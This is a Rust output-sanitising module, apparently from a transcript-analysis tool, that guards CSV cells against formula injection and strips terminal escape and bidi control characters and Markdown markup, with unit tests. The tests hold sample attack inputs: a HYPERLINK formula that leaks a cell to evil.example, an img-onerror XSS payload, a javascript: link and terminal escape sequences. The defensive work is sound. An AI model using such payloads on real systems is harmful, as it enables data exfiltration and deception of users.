//! Text that leaves the tool safely: CSV cells a spreadsheet shows as text
//! (never as a formula), and terminal text without control characters or
//! escape sequences. Transcripts are other people's words, and a line such
//! as `=HYPERLINK(…)` or `ESC]0;…BEL` must reach a spreadsheet or a terminal
//! as words, not as instructions.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a CSV cell as a formula
/// (or, for tab and carriage return, hide the start of one).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// True when a cell is a plain decimal number (`12`, `-0.25`): spreadsheets
/// read it as that number, never as a formula, so it is written as it is
/// (a negative κ must stay a number).
fn plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (int, frac) = match digits.split_once('.') {
        Some((i, f)) => (i, Some(f)),
        None => (digits, None),
    };
    !int.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

/// A CSV cell as written: a cell that starts with `=`, `+`, `-`, `@`, tab
/// or carriage return gets a leading apostrophe, which spreadsheet programs
/// take as "this is text" (OWASP's advice against CSV injection). Plain
/// numbers are left alone.
pub fn csv_cell(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_START) && !plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Undoes [`csv_cell`] on a cell read back (an excerpt id, a respondent id
/// in a coding sheet): the apostrophe goes when what follows it would have
/// been guarded.
pub fn csv_unguard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) && !plain_number(rest) => rest,
        _ => cell,
    }
}

/// Text for a terminal (and for every output people read): escape
/// sequences (`ESC [ … final`, `ESC ] … BEL` or `ESC \`, other `ESC x`
/// pairs), C0 controls other than newline and tab, DEL and C1 controls
/// (U+0080–U+009F, which some terminals obey like ESC) are removed. A
/// carriage return is removed too: it would let a line overwrite what was
/// printed before it. So are the bidi embeddings, overrides and isolates
/// (U+202A–U+202E, U+2066–U+2069): a right-to-left override shows the
/// words after it reversed, so a quote would not read as it was said.
pub fn terminal(text: &str) -> Cow<'_, str> {
    let unsafe_char = |c: char| {
        (c.is_control() && c != '\n' && c != '\t')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    if !text.chars().any(unsafe_char) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\u{1b}' => match chars.next() {
                // CSI: parameters and intermediates up to a final byte.
                Some('[') => {
                    for d in chars.by_ref() {
                        if ('\u{40}'..='\u{7e}').contains(&d) {
                            break;
                        }
                    }
                }
                // OSC, DCS, SOS, PM, APC: a string up to BEL or ST.
                Some(']' | 'P' | 'X' | '^' | '_') => {
                    while let Some(d) = chars.next() {
                        if d == '\u{7}' || d == '\u{9c}' {
                            break;
                        }
                        if d == '\u{1b}' && chars.peek() == Some(&'\\') {
                            chars.next();
                            break;
                        }
                    }
                }
                // Any other escape is two characters long.
                _ => {}
            },
            // C1 CSI: the same as ESC [.
            '\u{9b}' => {
                for d in chars.by_ref() {
                    if ('\u{40}'..='\u{7e}').contains(&d) {
                        break;
                    }
                }
            }
            c if unsafe_char(c) => {}
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// In a Markdown table cell, a line break (written `<br>`): what a cell of
/// several lines (a chart summary) joins them with.
pub const MARKDOWN_BREAK: char = '\u{2028}';

/// A Markdown table cell's text as Markdown (and pandoc) shows it
/// literally: no control characters (see [`terminal`]), one line (a
/// [`MARKDOWN_BREAK`] is `<br>`), and the characters that would make markup
/// of it backslash-escaped: `|` (the cell's end), backticks, `*`, `<` and
/// `>` (HTML), a `\\` before punctuation, a `]` that would make a link,
/// and `_` where it could start or end emphasis (not inside a word, so that
/// ids such as `family_role` read as they are).
pub fn markdown_cell(text: &str) -> String {
    let text = terminal(text);
    let mut out = String::with_capacity(text.len() + 4);
    let mut prev: Option<char> = None;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let word = |c: Option<char>| c.is_some_and(char::is_alphanumeric);
        match c {
            '\n' => out.push(' '),
            MARKDOWN_BREAK => out.push_str("<br>"),
            '|' | '`' | '*' | '<' | '>' => {
                out.push('\\');
                out.push(c);
            }
            // A backslash escapes only punctuation, and brackets make a
            // link only when `]` is followed by `(`, `[` or `:`: a citation
            // `[transcripts/r01.txt:5]` stays as it is.
            '\\' | ']'
                if chars.peek().is_some_and(|&n| {
                    if c == ']' {
                        matches!(n, '(' | '[' | ':')
                    } else {
                        n.is_ascii_punctuation()
                    }
                }) =>
            {
                out.push('\\');
                out.push(c);
            }
            '_' if !(word(prev) && word(chars.peek().copied())) => out.push_str("\\_"),
            c => out.push(c),
        }
        prev = Some(c);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_become_text_and_numbers_stay_numbers() {
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil.example/?q=\"&E2,\"Click here\")"),
            "'=HYPERLINK(\"http://evil.example/?q=\"&E2,\"Click here\")"
        );
        assert_eq!(csv_cell("=1+1"), "'=1+1");
        assert_eq!(csv_cell("+51 984 000 111"), "'+51 984 000 111");
        assert_eq!(csv_cell("-- no, nunca"), "'-- no, nunca");
        assert_eq!(csv_cell("@ana dijo"), "'@ana dijo");
        assert_eq!(csv_cell("\tcmd"), "'\tcmd");
        assert_eq!(csv_cell("\rcmd"), "'\rcmd");
        assert_eq!(csv_cell("-"), "'-");
        assert_eq!(csv_cell("-1+2"), "'-1+2");
        for n in ["-3", "-0.25", "12", "0", "3.5"] {
            assert_eq!(csv_cell(n), n);
        }
        for ok in ["Mi mamá", "transcripts/r07.txt:12", "", "1=1", "'=x"] {
            assert_eq!(csv_cell(ok), ok);
        }
        // Round trip of the cells read back from coding sheets.
        assert_eq!(csv_unguard("'=x.txt:3"), "=x.txt:3");
        assert_eq!(csv_unguard("'-"), "-");
        assert_eq!(csv_unguard("'abc"), "'abc");
        assert_eq!(csv_unguard("'-3"), "'-3");
        assert_eq!(csv_unguard("R07"), "R07");
    }

    #[test]
    fn markdown_cells_show_their_text_literally() {
        assert_eq!(
            markdown_cell("<img src=x onerror=alert(2)>"),
            "\\<img src=x onerror=alert(2)\\>"
        );
        assert_eq!(
            markdown_cell("said *nothing* [help](javascript:x) `x` a|b c\\*d"),
            "said \\*nothing\\* [help\\](javascript:x) \\`x\\` a\\|b c\\\\\\*d"
        );
        assert_eq!(
            markdown_cell("code \\ role [transcripts/r01.txt:5] [x][y] [z]: u"),
            "code \\ role [transcripts/r01.txt:5] [x\\][y] [z\\]: u"
        );
        assert_eq!(
            markdown_cell("family_role _nada_ x_"),
            "family_role \\_nada\\_ x\\_"
        );
        assert_eq!(markdown_cell("two\nlines\u{1b}[2J"), "two lines");
        assert_eq!(markdown_cell("8/30 (27%)"), "8/30 (27%)");
    }

    #[test]
    fn escape_sequences_and_controls_never_reach_the_terminal() {
        assert_eq!(
            terminal("Hola\u{1b}]0;pwned\u{7}\u{1b}[2J mundo"),
            "Hola mundo"
        );
        assert_eq!(
            terminal("a\u{1b}]8;;http://x\u{1b}\\link\u{1b}]8;;\u{1b}\\b"),
            "alinkb"
        );
        assert_eq!(terminal("\u{1b}[1;31mrojo\u{1b}[0m"), "rojo");
        assert_eq!(terminal("bell\u{7}\u{8}\u{0}\u{7f}"), "bell");
        assert_eq!(terminal("c1\u{9b}31mx\u{85}y"), "c1xy");
        assert_eq!(terminal("over\rwrite"), "overwrite");
        assert_eq!(terminal("\u{1b}7saved"), "saved");
        assert_eq!(terminal("line\n\tnext"), "line\n\tnext");
        assert!(matches!(terminal("sin control"), Cow::Borrowed(_)));
        // Bidi overrides and isolates go; right-to-left text and its marks stay.
        assert_eq!(
            terminal("afraid \u{202e}exe.txt done"),
            "afraid exe.txt done"
        );
        assert_eq!(terminal("\u{2067}x\u{2069} \u{202a}y\u{202c}"), "x y");
        assert_eq!(terminal("שלום \u{200f}ok"), "שלום \u{200f}ok");
    }
}
